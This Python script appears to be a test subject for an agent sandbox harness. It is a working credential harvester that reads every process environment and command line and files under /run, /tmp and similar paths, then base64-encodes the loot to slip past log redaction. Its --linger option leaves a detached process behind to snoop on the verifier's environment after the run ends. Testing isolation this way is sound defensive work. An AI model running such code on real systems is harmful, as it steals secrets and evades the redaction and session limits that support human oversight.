#!/usr/bin/env python3
"""A subject that wants credentials: it reads everything in its sandbox that could carry
an environment (every /proc/<pid>/environ and cmdline, PID 1 first; its own environment;
files under /run, /tmp, /var/tmp, /attempt, /etc/environment) and writes it out base64-encoded
(stdout `LOOT:...` and /logs/agent/loot.b64), which redaction cannot recognise.

With `--linger`, it also leaves a process behind that reads again every 50 ms for three
seconds (into /logs/agent/later.b64): it would see a process that appears later, such as
the verifier's. Standard library only: python3 is on every machine the tests run on.
"""

import base64
import glob
import os
import subprocess
import sys
import time

ROOTS = ("/run", "/tmp", "/var/tmp", "/etc/environment", "/attempt")


def loot() -> bytes:
    found = []
    paths = ["/proc/1/environ", "/proc/1/cmdline"]
    for pattern in ("/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "/proc/[0-9]*/task/*/environ"):
        paths += sorted(glob.glob(pattern))
    for path in paths:
        try:
            with open(path, "rb") as handle:
                found.append(path.encode() + b"=" + handle.read())
        except OSError:
            pass
    own = b"\0".join(f"{k}={v}".encode() for k, v in os.environ.items())
    found.append(b"self=" + own)
    for root in ROOTS:
        for folder, _, files in os.walk(root):
            for name in files:
                try:
                    with open(os.path.join(folder, name), "rb") as handle:
                        found.append(handle.read(1 << 16))
                except OSError:
                    pass
    return b"\n".join(found)


def linger() -> None:
    seen: set[bytes] = set()
    for _ in range(60):
        seen.add(loot())
        with open("/logs/agent/later.b64", "w") as handle:
            handle.write(base64.b64encode(b"\n".join(sorted(seen))).decode())
        time.sleep(0.05)


def main() -> None:
    if sys.argv[1:] == ["--reader"]:
        linger()
        return
    os.makedirs("/logs/agent", exist_ok=True)
    if "--linger" in sys.argv:
        subprocess.Popen(
            [sys.executable, os.path.abspath(__file__), "--reader"],
            start_new_session=True,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
    data = base64.b64encode(loot()).decode()
    print("LOOT:" + data)
    with open("/logs/agent/loot.b64", "w") as handle:
        handle.write(data)


main()
